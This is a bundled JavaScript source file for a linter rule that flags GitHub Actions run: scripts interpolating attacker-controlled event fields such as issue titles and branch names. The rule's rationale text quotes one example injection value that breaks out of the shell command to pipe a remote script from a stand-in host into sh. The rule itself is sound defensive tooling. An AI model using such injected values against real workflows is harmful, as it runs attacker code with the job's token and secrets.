import { createRequire as __infralintRequire } from 'node:module';
const require = __infralintRequire(import.meta.url);
globalThis.INFRALINT_VERSION = "0.1.0";
import {
  isUntrustedContext
} from "./chunk-G7UXYYO4.js";
import {
  contextPaths,
  findExpressions
} from "./chunk-HE76RRAI.js";
import {
  defineRule
} from "./chunk-S5PYAKLT.js";
import "./chunk-27OXTBH3.js";

// rules/github-actions/script-injection.ts
var script_injection_default = defineRule({
  meta: {
    id: "github-actions/script-injection",
    artifact: "github-actions",
    policy: "least-privilege",
    level: "error",
    securitySeverity: 8.8,
    security: true,
    precision: "high",
    docs: {
      summary: "run: scripts must not expand attacker-controlled ${{ github.event.* }} text",
      rationale: "`${{ }}` expressions are substituted into the script text before the shell runs it. Issue and pull-request titles and bodies, comment and review bodies, branch names (`github.head_ref`, `pull_request.head.ref`), commit messages and author names are written by whoever opens the issue or pushes the branch: a title like `\"; curl evil.sh | sh; #` runs as code with the job's token and secrets.",
      remediation: 'Pass the value through an environment variable and quote it in the shell: `env: { TITLE: ${{ github.event.issue.title }} }` then `echo "$TITLE"`.',
      references: ["https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections"]
    },
    messages: {
      injection: '`{{context}}` is controlled by whoever opened the issue or pull request (or pushed the branch) and is pasted into the script as code; pass it through `env:` and use "$VAR"'
    }
  },
  check(view, ctx) {
    for (const job of view.jobs) {
      for (const step of job.steps) {
        const run = step.run;
        if (!run) continue;
        for (const expression of findExpressions(run.text.value)) {
          const untrusted = contextPaths(expression.body).find((p) => isUntrustedContext(p.path));
          if (!untrusted) continue;
          const [start, end] = run.text.spanToFile(expression.start, expression.end);
          ctx.report({ messageId: "injection", data: { context: untrusted.path }, at: ctx.file.range(start, end), key: `${job.id}/${step.id ?? step.index}:${untrusted.path}` });
        }
      }
    }
  }
});
export {
  script_injection_default as default
};
